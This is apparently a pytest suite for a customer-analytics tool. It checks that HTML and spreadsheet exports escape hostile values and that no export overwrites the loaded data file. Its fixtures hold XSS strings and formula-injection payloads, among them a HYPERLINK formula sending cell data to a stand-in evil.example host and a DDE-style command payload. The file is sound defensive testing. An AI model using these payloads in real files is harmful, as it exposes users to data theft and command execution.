"""What a hostile file must not do (issue 18): values that are markup stay text in every HTML
output, values that are formulas stay text in every spreadsheet output, and no output is ever
written over a loaded source. Each case goes through the front end where it was found."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from custlens.cli import cli
from custlens.session import Session

IMG = "<img src=x onerror=alert(2)>"
SCRIPT = "<script>alert(1)</script>"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "@SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
#: product -> revenue: the hostile names are the top sellers, so every top-products table shows them
REVENUE = {IMG: 900.0, SCRIPT: 800.0, **{f: 700.0 - 10 * i for i, f in enumerate(FORMULAS)}, "Plain": 100.0}


def hostile_orders(path: Path, header_product: str = "product") -> Path:
    """Four customers, 3 orders per product (one line each), over 2024; a year of dates so every
    analysis of the report has something to say."""
    rows, n = [], 0
    for product, revenue in REVENUE.items():
        for k in range(3):
            n += 1
            rows.append({"customer_id": f"C{n % 4}", "order_id": f"O{n:03d}",
                         "order_date": f"2024-{1 + n % 12:02d}-{1 + n % 27:02d}", header_product: product,
                         "amount": revenue / 3, "country": SCRIPT if n % 5 == 0 else "Germany"})
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def run(*args: str):
    res = CliRunner().invoke(cli, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    return res


def assert_escaped(html: str, where: str) -> None:
    for raw in (IMG, SCRIPT, "<img src=x", "<script"):
        assert raw not in html, f"{where}: {raw!r} printed raw"
    assert "&lt;img src=x onerror=alert(2)&gt;" in html, f"{where}: the hostile product is not shown escaped"


# ---------------------------------------------------------------------- 7. HTML answers are escaped
def test_ask_format_html_escapes_every_value(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    res = run("ask", "top 10 products", "--data", str(data), "--format", "html")
    assert res.exit_code == 0, res.output
    assert_escaped(res.stdout, "ask --format html")
    assert res.stdout.count("<table>") >= 1  # the template's own markup is still markup


def test_export_to_html_and_report_html_escape_every_value(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "answer.html"
    assert run("ask", "top 10 products", "--data", str(data), "--out", str(out)).exit_code == 0
    assert_escaped(out.read_text(encoding="utf-8"), "--out answer.html")
    out2 = tmp_path / "answer2.html"
    assert run("ask", "top 10 products", "--data", str(data), "--format", "html", "--out", str(out2)).exit_code == 0
    assert_escaped(out2.read_text(encoding="utf-8"), "--format html --out")
    report = tmp_path / "report.html"
    res = run("report", "--data", str(data), "--out", str(report))
    assert res.exit_code == 0, res.output
    assert_escaped(report.read_text(encoding="utf-8"), "report.html")


def test_shell_export_to_html_escapes(tmp_path, monkeypatch):
    data = hostile_orders(tmp_path / "orders.csv")
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["chat", "--data", str(data), "--history", str(tmp_path / "h")],
                             input="top 10 products\nexport that to shell.html\n")
    assert res.exit_code == 0, res.output
    assert_escaped((tmp_path / "shell.html").read_text(encoding="utf-8"), "shell export")


def test_persona_html_documents_escape_the_data(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    session = Session(data=[str(data)], entry_points=False)
    session.export_dir = str(tmp_path / "docs")
    Path(session.export_dir).mkdir()
    session.chat("create personas for our segments")
    session.chat("export personas as html")
    pages = sorted(Path(session.export_dir).glob("*.html"))
    assert pages
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    for raw in (IMG, SCRIPT, "<img src=x", "<script"):
        assert raw not in text
    assert "&lt;img src=x onerror=alert(2)&gt;" in text or "&lt;script&gt;" in text  # the top product or country


def test_every_html_template_autoescapes():
    """The rule itself: a template whose name says HTML escapes, ``.html.j2`` included; Markdown does not."""
    from custlens.templates import environment

    env = environment()
    assert env.from_string("{{ x }}").render(x="<b>") == "<b>"  # strings: Markdown narratives stay as written
    for name in ("answer.html.j2", "persona.html.j2", "report.html.j2"):
        assert env.autoescape(name) is True, name
    assert env.autoescape("overview.md.j2") is False


def test_markdown_to_html_passes_no_raw_html():
    from custlens.render import _md_to_html

    html = _md_to_html(f"**{IMG}** and _{SCRIPT}_\n- {IMG}")
    assert "<img" not in html and "<script" not in html
    assert "<strong>&lt;img src=x onerror=alert(2)&gt;</strong>" in html


# ---------------------------------------------------------------------- 8. formula injection
def test_xlsx_export_stores_formulas_as_text_and_numbers_as_numbers(tmp_path):
    import openpyxl

    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "top.xlsx"
    assert run("ask", "top 10 products", "--data", str(data), "--out", str(out)).exit_code == 0
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell is stored as a live formula"
    texts = {c.value.replace("\r", "\n") for c in cells if isinstance(c.value, str)}  # XML keeps CR as LF
    for f in FORMULAS:
        assert "'" + f.replace("\r", "\n") in texts, f
        assert f.replace("\r", "\n") not in texts
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert 900.0 in [round(v, 6) for v in numbers]  # revenue of the top product stays a number


def test_csv_export_starts_no_cell_with_a_formula(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "top.csv"
    res = run("ask", "top 10 products", "--data", str(data), "--out", str(out))
    assert res.exit_code == 0, res.output
    written = sorted(tmp_path.glob("top*.csv"))
    cells = []
    for p in written:
        with p.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    for f in FORMULAS:
        assert "'" + f in cells, f


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_negative_numbers_stay_numbers_and_plain_number_text_is_left_alone():
    from custlens.export import neutralise, safe_frame

    frame = pd.DataFrame({"product": ["=1+1", "-5", "-2+3", "ok", None], "profit": [-5.0, -1e3, 2.5, 0.0, -1.0],
                          "=cmd": [1, -2, 3, 4, 5]})
    safe = safe_frame(frame)
    assert safe["profit"].tolist() == [-5.0, -1e3, 2.5, 0.0, -1.0] and safe["profit"].dtype == float
    assert safe.iloc[:, 2].tolist() == [1, -2, 3, 4, 5]
    assert list(safe.columns) == ["product", "profit", "'=cmd"]
    assert safe["product"].tolist()[:4] == ["'=1+1", "-5", "'-2+3", "ok"] and pd.isna(safe["product"].iloc[4])
    assert frame["product"].iloc[0] == "=1+1"  # the answer's own table is not changed
    assert neutralise(-3) == -3 and neutralise("@x") == "'@x" and neutralise("+4.5e3") == "+4.5e3"


def test_http_table_download_neutralises_formulas(tmp_path):
    from fastapi.testclient import TestClient

    from custlens import Assistant
    from custlens.server import create_app

    data = hostile_orders(tmp_path / "orders.csv")
    assistant = Assistant(data=[str(data)], entry_points=False) if "entry_points" in \
        Assistant.__init__.__code__.co_varnames else Assistant(data=[str(data)])
    try:
        with TestClient(create_app(assistant, token="a-long-test-token"), base_url="http://127.0.0.1") as client:
            headers = {"Authorization": "Bearer a-long-test-token"}
            reply = client.post("/ask", json={"question": "top 10 products"}, headers=headers)
            assert reply.status_code == 200, reply.text
            body = reply.json()
            text = "".join(client.get(link, headers=headers).text for link in body["tables"])
    finally:
        assistant.close()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells


# ---------------------------------------------------------------------- 11. never write over a source
def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_out_equal_to_a_data_file_is_refused(tmp_path):
    data = hostile_orders(tmp_path / "cust.csv")
    book = tmp_path / "cust.xlsx"
    pd.read_csv(data).to_excel(book, index=False)
    before = {p: digest(p) for p in (data, book)}
    for args in (["--data", str(book), "--out", str(book)],
                 ["--data", str(data), "--out", str(data)],
                 ["--data", str(data), "--format", "json", "--out", str(data)],
                 ["--data", str(book), "--data", str(data), "--out", str(tmp_path / "." / "cust.xlsx")]):
        res = run("ask", "top 10 products", *args)
        assert res.exit_code == 1, (args, res.output)
        assert "refusing to write cust." in res.stderr and "loaded data source" in res.stderr, res.stderr
    link = tmp_path / "link.csv"
    link.symlink_to(data)
    res = run("ask", "top 10 products", "--data", str(data), "--out", str(link))
    assert res.exit_code == 1 and "loaded data source" in res.stderr
    assert {p: digest(p) for p in before} == before


def test_multi_table_csv_export_over_a_source_writes_nothing(tmp_path):
    """"top.csv" with several tables writes top_<table>.csv: none of them may be a source."""
    data = hostile_orders(tmp_path / "orders.csv")
    session = Session(data=[str(data)], entry_points=False)
    answer = session.ask("how many customers do we have and what do they spend?")
    names = [t.name for t in answer.tables]
    assert len(names) > 1
    victim = tmp_path / f"top_{names[-1]}.csv"
    data.rename(victim)
    session = Session(data=[str(victim)], entry_points=False)
    session.ask("how many customers do we have and what do they spend?")
    before = digest(victim)
    with pytest.raises(Exception, match="loaded data source"):
        session.export(str(tmp_path / "top.csv"))
    assert digest(victim) == before and not (tmp_path / f"top_{names[0]}.csv").exists()


def test_shell_export_over_a_loaded_source_is_refused(tmp_path, monkeypatch):
    data = hostile_orders(tmp_path / "cust.csv")
    book = tmp_path / "cust.xlsx"
    pd.read_csv(data).to_excel(book, index=False)
    before = digest(book)
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["chat", "--data", "cust.xlsx", "--history", str(tmp_path / "h")],
                             input="top 10 products\nexport that to cust.xlsx\nexport cust.xlsx\n")
    assert res.exit_code == 0, res.output
    assert res.output.count("error: refusing to write cust.xlsx: it is the loaded data source") == 2, res.output
    assert digest(book) == before
